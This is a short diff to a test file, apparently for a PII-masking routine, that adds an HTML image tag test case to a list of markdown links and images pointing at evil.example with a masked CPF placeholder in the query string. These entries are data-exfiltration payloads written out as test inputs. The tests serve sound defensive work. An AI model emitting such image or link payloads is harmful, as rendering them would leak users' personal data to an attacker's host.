@@ -112,6 +112,7 @@ describe('a masked text that comes in pieces', () => {
       ['evil\u3002example/?c=[CPF_1]', false],
       ['[x](<https://evil.example/?c= [CPF_1]>)', false],
       ['[x](<https://evil.example/?c= a b c d e f g h i j k l m n o p q r s t [CPF_1]>)', false],
+      ['<img src="https://evil.example/x.png?c= [CPF_1]">', false],
       ['a < b [CPF_1] c', true],
       ['![x](https://evil.example/x.png?c= [CPF_1])', false],
       ['[x](https://evil.example/?a=(1) b [CPF_1])', false],
